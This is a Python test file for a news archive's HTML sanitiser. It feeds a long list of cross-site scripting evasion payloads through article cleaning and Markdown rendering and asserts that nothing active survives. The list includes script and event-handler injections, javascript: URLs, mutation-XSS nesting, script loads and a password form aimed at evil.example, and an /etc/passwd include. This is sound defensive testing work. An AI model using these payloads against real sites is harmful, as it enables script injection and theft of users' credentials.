"""Nothing active reaches a page, whatever trick a raw file tries."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup

from newsarchive.clean.sanitize import sanitize
from newsarchive.model.article import Article
from tests.builders import process_text, raw_article
from tests.convert.reading import read_commonmark, read_python_markdown

ELEMENTS = frozenset(
    "p h2 h3 h4 h5 h6 ul ol li blockquote pre code hr br table caption thead tbody tr th td figure figcaption img "
    "a strong em del ins sub sup mark kbd ruby rt rp".split()
)
ATTRIBUTES = {
    "a": {"href", "rel"},
    "img": {"src", "alt", "width", "height", "loading", "decoding", "referrerpolicy"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
    "ol": {"start"},
}
# After the OWASP cheat sheet on filter evasion and PortSwigger's list, in the forms that parsers disagree on.
TRICKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://e.org/a.jpg' onerror='alert(1)'>",
    '<img src="https://e.org/a.jpg" alt="&quot; onerror=&quot;alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<img/src=`x`onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src=https://e.org/a.jpg srcset="javascript:alert(1) 2x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://e.org/' onclick='alert(1)' style='position:fixed'>x</a>",
    "<a href='https://e.org/\" onmouseover=\"alert(1)'>x</a>",
    "<a href='https://e.org/)<script>alert(1)</script>'>x</a>",
    "<body onload=alert(1)><p>x</p></body>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)//'></style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<form action='https://evil.example/'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&amp;lt;script&amp;gt;alert(1)</p>",
    "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>",
    "<code>`&lt;script&gt;alert(1)&lt;/script&gt;`</code>",
    "<pre>```\n&lt;script&gt;alert(1)&lt;/script&gt;\n```</pre>",
    "<table><tr><td>a</td><td><script>alert(1)</script>&lt;script&gt;b</td></tr></table>",
    "<table background='javascript:alert(1)'><tr><td onclick=x>a</td><td>b</td></tr></table>",
    "<p>[x](javascript:alert(1)) ![x](javascript:alert(1)) &lt;javascript:alert(1)&gt;</p>",
    "<p>[x]: javascript:alert(1)</p><p>[x]</p>",
    "<p>x{: onclick=alert(1) }</p><p>{: onclick=alert(1) }</p>",
    "<h2>x {: onclick=alert(1) }</h2>",
    "<p># x {onclick=alert(1)}</p>",
    "<p>*[x]: &lt;script&gt;</p>",
    '<p>--8&lt;-- "/etc/passwd"</p>',
    "<ruby onclick=x>漢<rt onclick=alert(1)>かん</rt></ruby>",
    "<a id=x name=y target=_top ping=https://evil.example/ download href=https://e.org/>x</a>",
    "<x onclick=alert(1)>y</x>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip


def article_of(*, title: str = "标题", body: str = "<p>正文</p>", image: str = "") -> Article:
    article = process_text(raw_article(title=title, body=body, image=image)).article
    assert article
    return article


def active(markup: str) -> list[str]:
    """Whatever in a page's markup is outside the canonical form or leads to code."""
    found = []
    for element in BeautifulSoup(markup, "lxml").find_all():
        if element.name in {"html", "body"} and not element.attrs:
            continue
        if element.name not in ELEMENTS:
            found.append(f"<{element.name}>")
        for name, value in element.attrs.items():
            if name not in ATTRIBUTES.get(element.name, set()):
                found.append(f"<{element.name} {name}>")
            elif name in {"href", "src"} and not str(value).startswith(("http://", "https://", "mailto:")):
                found.append(f"{name}={value}")
    return found


@pytest.mark.parametrize("trick", TRICKS)
def test_no_trick_in_a_body_is_active_on_the_page(trick: str) -> None:
    assert active(article_of(body=f"<p>前</p>{trick}<p>后</p>").html) == []


@pytest.mark.parametrize("trick", TRICKS)
def test_no_trick_in_a_body_is_active_in_the_markdown_however_it_is_rendered(trick: str) -> None:
    markdown = article_of(body=f"<p>前</p>{trick}<p>后</p>").markdown
    for render in (read_python_markdown, read_commonmark):
        # What Markdown itself adds is no danger: the id of a heading, the class of a code block.
        harmless = {"<h2 id>", "<h3 id>", "<div>", "<div class>", "<span>", "<span class>", "<span id>", "<a id>",
                    "<a name>"}  # fmt: skip
        assert set(active(render(markdown))) <= harmless, render


@pytest.mark.parametrize("trick", TRICKS)
def test_words_before_a_trick_are_kept_and_those_behind_it_are_kept_or_listed(trick: str) -> None:
    article = article_of(body=f"<p>前</p>{trick}<p>后</p>")
    assert article.text.splitlines()[0] == "前"
    assert "后" in article.text or any("后" in removal.text for removal in article.removed)


@pytest.mark.parametrize(
    "trick", ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7*7 }}", "&lt;b&gt;"]
)
def test_a_title_is_only_text_and_stands_as_written(trick: str) -> None:
    article = article_of(title=trick)
    assert article.title == trick
    assert article.url == f"a/{article.id}/"


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "JAVASCRIPT:x", "data:image/svg+xml,<svg onload=alert(1)>", '" onerror="x', '//"><script>'],
)
def test_a_picture_of_the_front_matter_is_safe_or_none(address: str) -> None:
    lead = article_of(image=address).lead_image
    assert not lead or (lead.startswith("https://") and not set(lead) & set("\"<> '"))


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>文</p><script>x</script>", "<p>文</p>"),
        ("<p onclick=x>文</p>", "<p>文</p>"),
        ('<a href="javascript:x">文</a>', '<a rel="noopener noreferrer">文</a>'),
        ('<img src="data:x" alt="替">', '<img alt="替">'),
        ("<!-- x --><p>文</p>", "<p>文</p>"),
        ("<div><span>文</span></div>", "文"),
    ],
)
def test_the_sanitiser_alone_takes_out_what_the_cleaning_might_have_missed(html: str, expected: str) -> None:
    assert sanitize(html) == expected
